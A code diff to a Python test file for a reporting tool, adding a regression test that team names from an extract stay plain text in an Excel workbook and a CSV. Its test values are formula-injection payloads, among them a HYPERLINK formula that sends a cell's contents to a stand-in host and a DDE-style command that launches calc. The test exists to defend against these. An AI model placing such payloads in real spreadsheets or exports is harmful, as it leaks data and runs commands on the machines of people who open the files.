@@ -94,8 +94,9 @@ def series() -> pl.DataFrame:
     )  # fmt: skip
 
 
-def write(folder: Path, audience: str = "public", **agency: Any) -> Path:
-    """The outputs in ``folder``; ``agency`` replaces scorecard columns of agency_rate_fte."""
+def write(folder: Path, audience: str = "public", team: str = "Front door", **agency: Any) -> Path:
+    """The outputs in ``folder``; ``agency`` replaces scorecard columns of agency_rate_fte;
+    ``team`` names the (internal) team breakdown's one team."""
     folder.mkdir(parents=True, exist_ok=True)
     computed = series()
     card = scorecard(computed, CATALOGUE, AUTHORITY, MONTH).with_columns(
@@ -108,7 +109,7 @@ def write(folder: Path, audience: str = "public", **agency: Any) -> Path:
     figures = computed.join(card.select("indicator", "title"), on="indicator", how="left")
     by_team = (
         pl.DataFrame(
-            {"indicator": ["contacts"], "month": [MONTH.first_day], "team": ["Front door"],
+            {"indicator": ["contacts"], "month": [MONTH.first_day], "team": [team],
              "numerator": [110.0], "denominator": [None], "value": [110.0]},
             schema_overrides={"denominator": pl.Float64},
         )
@@ -374,3 +375,39 @@ def test_every_indicator_of_the_catalogue_has_a_journey_stage_in_order() -> None
     )
     assert set(stages) == set(Stage)
     assert Stage.LOOKED_AFTER.label == "Children looked after"
+
+
+@pytest.mark.parametrize(
+    "team",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tTabbed",
+        "\rReturned",
+    ],
+)
+def test_text_from_an_extract_never_becomes_a_formula_or_a_link(tmp_path: Path, team: str) -> None:
+    """Issue 15: a team name from an extract became a live formula and an external link. In
+    the workbook every such value is a text cell; in the CSV beside the paper it gets OWASP's
+    leading apostrophe, so Excel shows it as text."""
+    folder = write(tmp_path, "internal", team=team)
+    book = openpyxl.load_workbook(folder / "data.xlsx")
+    # (a carriage return comes back from the file as a line feed or an escape: match the rest)
+    cells = [
+        c
+        for row in book["By team"].iter_rows(min_row=2)
+        for c in row
+        if isinstance(c.value, str) and team.strip() in c.value
+    ]
+    assert cells and all(c.data_type == "s" and c.hyperlink is None for c in cells)
+    with (folder / "data_by_team.csv").open(encoding="utf-8", newline="") as csv:
+        assert "'" + team.replace('"', '""') in csv.read()
+
+
+def test_numbers_written_as_text_keep_their_sign() -> None:
+    from safeguard.report.workbook import spreadsheet_safe
+
+    frame = pl.DataFrame({"value": ["-1.5", "+2", "c", "=1+1", None]})
+    assert spreadsheet_safe(frame)["value"].to_list() == ["-1.5", "+2", "c", "'=1+1", None]
